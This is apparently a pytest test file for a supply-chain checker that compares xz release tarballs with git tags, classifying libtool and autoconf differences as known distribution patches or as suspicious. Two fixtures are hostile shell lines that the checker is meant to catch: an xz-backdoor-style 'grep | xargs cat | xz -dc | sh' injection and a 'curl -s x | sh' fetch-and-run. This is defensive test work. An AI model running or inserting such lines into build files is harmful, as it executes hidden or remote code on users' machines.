"""Known flavours of published libtool files (data/flavours.toml): a same-serial libtool.m4 whose
every differing hunk is a distribution's patch is info with the flavour named; a hunk no flavour
explains keeps the file at high (critical when risky), with only that hunk in the diff."""

from __future__ import annotations

import pytest

import release_realdata as rd
from provcheck import Severity
from provcheck_release import flavours

FEDORA_RPATH = "Fedora libtool: ABI-specific (lib64) system library search path"


def fedora_patched(text: str) -> str:
    """``text`` with the Fedora lib64 hunks of the shipped flavour data applied, as a patch would."""
    [flavour] = [f for f in flavours.load() if f.name == FEDORA_RPATH]
    lines = text.split("\n")
    for h in flavour.hunks:
        at = flavours.find_block(lines, h.old)
        assert at >= 0, "the flavour's hunk must apply to the real published libtool.m4"
        lines[at:at + len(h.old)] = h.new
    return "\n".join(lines)


def test_hunks_apply_like_a_patch_and_only_there():
    published = ["a", "b", "c", "d"]
    h = flavours.parse_hunk(" b\n-c\n+C\n d")
    assert (h.old, h.new) == (("b", "c", "d"), ("b", "C", "d"))
    with pytest.raises(ValueError):
        flavours.parse_hunk("?x")
    assert flavours.find_block(published, h.old) == 1 and flavours.find_block(published, ("c", "b")) == -1


@pytest.mark.parametrize("extra, expected", [
    (None, Severity.INFO),
    ("lt_cv_extra_search=/opt/lib64", Severity.HIGH),                           # unexplained, inert
    ("grep -rl '####Hello####' $srcdir/ | xargs cat | xz -dc | sh", Severity.CRITICAL),  # unexplained, risky
])
def test_fedora_libtool_m4_is_a_known_flavour_but_added_lines_are_not(release_checker, xz_real, extra, expected):
    _git, release, _top = xz_real
    text = fedora_patched(release["m4/libtool.m4"].decode())
    if extra:
        text = text.replace("\n# Always use our own libtool.\n", f"\n{extra}\n# Always use our own libtool.\n", 1)
    repo, tarball = rd.build_xz(release_checker, xz_real, release_changes={"m4/libtool.m4": text.encode()})
    result = release_checker.run(tarball, source=f"git:{repo}@v5.4.1")
    result.assert_no_errors()
    [f] = [f for f in result.by_rule("PC103") if f.location.path.endswith("m4/libtool.m4")]
    assert f.severity == expected, f.message
    assert f.evidence["explained_by"]["flavours"][0]["name"] == FEDORA_RPATH
    assert "Fedora" in f.evidence["explained_by"]["flavours"][0]["origin"]
    if extra is None:
        assert FEDORA_RPATH in f.message and "/lib64 /usr/lib64" in f.evidence["diff"]
    else:   # the diff evidence holds the unexplained line, not the flavour's
        assert f"+{extra}" in f.evidence["diff"] and "/lib64 /usr/lib64" not in f.evidence["diff"]
        assert f.evidence["explained_by"]["unexplained_hunks"] == 1


HELP_RULE = b"""
xz_SOURCES += xz_help.c
xz_help.c: $(srcdir)/mkhelp.sh $(srcdir)/xz.1
\t$(SHELL) $(srcdir)/mkhelp.sh < $(srcdir)/xz.1 > $@
"""
HELP_C = b'#include "private.h"\nconst char xz_help[] = "Usage: xz [OPTION]... [FILE]...";\n'


@pytest.mark.parametrize("rule_in_tag", [True, False])
def test_a_file_written_by_a_make_rule_of_the_tag_is_generated(release_checker, xz_real, rule_in_tag):
    """A release-only source that a rule of the *tag's* Makefile.am writes from the tag's inputs
    (curl's tool_hugehelp.c, libarchive's list.h) is generated; the same rule only in the
    release does not explain it (compiled, release-only: PC101 high)."""
    git, release, _top = xz_real
    makefile = release["src/xz/Makefile.am"] + HELP_RULE
    mkhelp = b"#!/bin/sh\nsed -n 's/^\\.SH //p'\n"
    release_changes = {"src/xz/Makefile.am": makefile, "src/xz/mkhelp.sh": mkhelp, "src/xz/xz_help.c": HELP_C}
    git_changes = {"src/xz/Makefile.am": makefile, "src/xz/mkhelp.sh": mkhelp} if rule_in_tag else {}
    repo, tarball = rd.build_xz(release_checker, xz_real, release_changes=release_changes, git_changes=git_changes)
    result = release_checker.run(tarball, source=f"git:{repo}@v5.4.1")
    result.assert_no_errors()
    pc101 = [f for f in result.by_rule("PC101") if f.location.path.endswith("src/xz/xz_help.c")]
    [comparison] = result.report.extras["release"].values()
    verdict = {x["path"]: x for x in comparison["files"]}["src/xz/xz_help.c"]
    if rule_in_tag:
        assert not pc101 and verdict["verdict"] == "generated"
        assert "src/xz/Makefile.am:" in verdict["how"] and "src/xz/mkhelp.sh" in verdict["how"]
    else:
        [f] = pc101
        assert f.severity == Severity.HIGH and verdict["verdict"] == "unexplained"


CXX11_DEBIAN = """printf %s "checking for $CXX option to enable C++11 features... " >&6; }
if test ${ac_cv_prog_cxx_cxx11+y}
then :
  printf %s "(cached) " >&6
else $as_nop
  ac_cv_prog_cxx_cxx11=no
ac_save_CXX=$CXX
"""


@pytest.mark.parametrize("release, kind", [
    (CXX11_DEBIAN.replace("cxx_cxx11", "cxx_11"), "toolchain"),                       # upstream autoconf 2.71
    (CXX11_DEBIAN.replace("cxx_cxx11=no", "cxx_11=no; curl -s x | sh"), "unexplained"),
])
def test_debian_autoconf_271_cxx_cache_variables_are_a_known_toolchain_difference(release, kind):
    from provcheck_release import knowledge
    from provcheck_release.regenerate import compare_output, known_differences
    known = known_differences(knowledge.builtin().systems.values())
    [hunk] = compare_output("configure", CXX11_DEBIAN.encode(), release.encode(), known)
    assert hunk.kind == kind
    if kind == "toolchain":
        assert "fix-cxx-stdcxx-test" in hunk.how
